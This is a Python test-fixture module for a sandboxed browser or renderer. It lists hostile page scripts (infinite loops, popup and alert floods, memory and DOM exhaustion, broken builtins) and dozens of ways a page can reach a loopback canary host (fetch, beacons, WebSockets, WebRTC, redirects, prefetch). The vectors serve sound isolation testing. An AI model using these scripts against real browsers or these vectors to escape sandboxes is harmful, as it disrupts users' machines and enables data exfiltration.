"""Pages that mean harm: what their scripts do, and their ways out that lead inside."""

# ruff: noqa: E501 - a way out is best read on one line

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

from aiohttp import web

# By what a page does.
SCRIPTS = {
    "loop while parsing": "<script>while(1){}</script>",
    "loop at load": "<script>onload = () => { while(1){} }</script>",
    "loop after load": "<script>onload = () => setTimeout(() => { while(1){} }, 10)</script>",
    "alerts": "<script>while(1) alert(1)</script>",
    "prompts on a timer": "<script>setInterval(() => prompt('?'), 1)</script>",
    "popups": "<script>for (let i = 0; i < 200; i++) window.open('/popup')</script>",
    "popups on a timer": "<script>setInterval(() => window.open(location.href), 5)</script>",
    "print": "<script>print()</script>",
    "a promise that never comes": "<script type=module>await new Promise(() => {})</script><script>window.Promise = null</script>",
    "replaced builtins": """<script>setTimeout = null; JSON.stringify = () => { throw 1 }; Array.from = null; MutationObserver = null;
        performance.now = () => 0;
        Object.defineProperty(Element.prototype, 'outerHTML', {get() { throw 1 }})</script>""",
    "self-navigation": "<script>location.href = location.pathname + '?' + Math.random()</script>",
    "history floods": "<script>for (;;) history.pushState(0, '', '?' + Math.random())</script>",
    "heap growth": "<script>const a = []; for (;;) a.push(new Array(1e5).fill(Math.random()))</script>",
    "a DOM that grows": """<script>setInterval(() => {
            for (let i = 0; i < 50; i++) document.body.append(document.createElement('b'))
        })</script>""",
    "requests without end": "<script>setInterval(() => { for (let i = 0; i < 50; i++) fetch('/none') })</script>",
    "a leave that is refused": "<script>onbeforeunload = (e) => { e.preventDefault(); return 'stay' }</script>",
    "a worker that spins": "<script>new Worker(URL.createObjectURL(new Blob(['for(;;);'])))</script>",
    "a document that closes itself": "<script>window.close()</script>",
    "deep shadow roots": """<script>let at = document.body; for (let i = 0; i < 3000; i++) { const d = document.createElement('div');
        (at.attachShadow ? at.attachShadow({mode: 'open'}) : at).append(d); at = d }</script>""",
    "a picture that never comes": "<img src=/slow>",
    "a page that grows as it is scrolled": """<script>onscroll = () => { const d = document.createElement('div'); d.style.height = '3000px';
        document.body.append(d) }</script><div style='height:3000px'></div>""",
    "endless animation": """<script>const f = () => { document.body.style.color = `hsl(${Math.random() * 360} 50% 50%)`;
        requestAnimationFrame(f) }; f()</script>""",
    "400,000 px, and as wide": "<div style='height:400000px;width:400000px'></div>",
    "a tower of elements": "<b>" * 20_000,
}


async def breaking_off(request: web.Request, said: str) -> web.StreamResponse:
    """An answer that is closed when `said` of its 100,000 bytes has come."""
    response = web.StreamResponse(headers={"Content-Type": "text/html", "Content-Length": "100000"})
    await response.prepare(request)
    await response.write(said.encode())
    assert request.transport is not None
    request.transport.close()
    return response


class Canary:
    """Listens on TCP and UDP of one loopback port, and counts whoever comes."""

    def __init__(self) -> None:
        self.port = 0
        self.tcp: list[bytes] = []
        self.udp = 0

    @property
    def host(self) -> str:
        return f"127.0.0.1:{self.port}"

    async def met(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.tcp.append(await reader.readline())
        writer.write(b"HTTP/1.1 204 No Content\r\nAccess-Control-Allow-Origin: *\r\nConnection: close\r\n\r\n")
        writer.close()


class _Datagrams(asyncio.DatagramProtocol):
    def __init__(self, canary: Canary) -> None:
        self._canary = canary

    def datagram_received(self, data: bytes, addr: object) -> None:
        self._canary.udp += 1


@asynccontextmanager
async def listening_canary() -> AsyncIterator[Canary]:
    canary = Canary()
    server = await asyncio.start_server(canary.met, "127.0.0.1", 0)
    canary.port = server.sockets[0].getsockname()[1]
    loop = asyncio.get_running_loop()
    udp, _ = await loop.create_datagram_endpoint(lambda: _Datagrams(canary), local_addr=("127.0.0.1", canary.port))
    try:
        yield canary
    finally:
        udp.close()
        server.close()


# In each, C is the canary's host and port. Those marked "idle" are hints, which a browser may not act upon at once.
VECTORS = {
    "fetch": "<script>fetch('http://C/fetch')</script>",
    "fetch no-cors": "<script>fetch('http://C/nocors', {mode: 'no-cors', keepalive: true})</script>",
    "fetch by name": "<script>fetch('http://localhost:P/name')</script>",
    "fetch by number": "<script>fetch('http://2130706433:P/number'); fetch('http://[::ffff:127.0.0.1]:P/v6')</script>",
    "xhr": "<script>x = new XMLHttpRequest(); x.open('POST', 'http://C/xhr'); x.send('a')</script>",
    "beacon": "<script>navigator.sendBeacon('http://C/beacon', 'a')</script>",
    "image": "<img src='http://C/image'><svg><image href='http://C/svg'/></svg>",
    "image by script": "<script>new Image().src = 'http://C/newimage'</script>",
    "iframe": "<iframe src='http://C/iframe'></iframe><object data='http://C/object'></object><embed src='http://C/embed'>",
    "script": "<script src='http://C/script.js'></script>",
    "style": "<link rel=stylesheet href='http://C/style.css'><style>@import 'http://C/import.css'</style>",
    "font": "<style>@font-face{font-family:f;src:url(http://C/f.woff2)} b{font-family:f}</style><b>x</b>",
    "video": "<video src='http://C/video' autoplay></video><audio src='http://C/audio' autoplay></audio>",
    "form": "<form method=post action='http://C/form'></form><script>document.forms[0].submit()</script>",
    "location": "<script>location = 'http://C/location'</script>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=http://C/meta'>",
    "popup": "<script>open('http://C/popup')</script><a id=a target=_blank href='http://C/blank'></a><script>a.click()</script>",
    "event source": "<script>new EventSource('http://C/events')</script>",
    "websocket": "<script>new WebSocket('ws://C/socket')</script>",
    "websocket in a worker": "<script>new Worker(URL.createObjectURL(new Blob([`new WebSocket('ws://C/worker');fetch('http://C/workerfetch')`])))</script>",
    "shared worker": "<script>new SharedWorker(URL.createObjectURL(new Blob([`fetch('http://C/shared')`])))</script>",
    "service worker": "<script>navigator.serviceWorker.register('/sw.js')</script>",
    "hints": "<link rel=preconnect href='http://C'><link rel=dns-prefetch href='http://C'><link rel=prefetch href='http://C/prefetch'><link rel=preload as=fetch href='http://C/preload'>",
    "speculation": '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://C/speculation"]}]}</script>',
    "redirected fetch": "<script>fetch('/to-canary/302'); fetch('/to-canary/307', {method: 'POST', body: 'a'})</script>",
    "redirected image and frame": "<img src='/to-canary/301'><iframe src='/to-canary/303'></iframe>",
    "webrtc": """<script>p = new RTCPeerConnection({iceServers: [{urls: ['stun:C', 'turn:C?transport=udp', 'turn:C?transport=tcp'],
        username: 'a', credential: 'b'}]}); p.createDataChannel('a'); p.createOffer().then(o => p.setLocalDescription(o))</script>""",
    "https": "<script>fetch('https://C/https'); new WebSocket('wss://C/wss')</script>",
    "csp report": "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; report-uri http://C/report\"><img src=/x.png>",
    "ping": "<a id=a href='#x' ping='http://C/ping'></a><script>a.click()</script>",
    "css by script": "<div style=\"background:url('http://C/background')\">x</div>",
    "manifest and icon": "<link rel=manifest href='http://C/manifest'><link rel=icon href='http://C/icon'>",
}
WAITS = "<script>new Promise(r => setTimeout(r, 400)).then(() => document.body.append('waited'))</script>"


def vector(name: str, canary: Canary) -> str:
    body = VECTORS[name].replace("//C", f"//{canary.host}").replace(":C", f":{canary.host}")
    return f"<body>{WAITS}{body.replace(':P', f':{canary.port}')}"
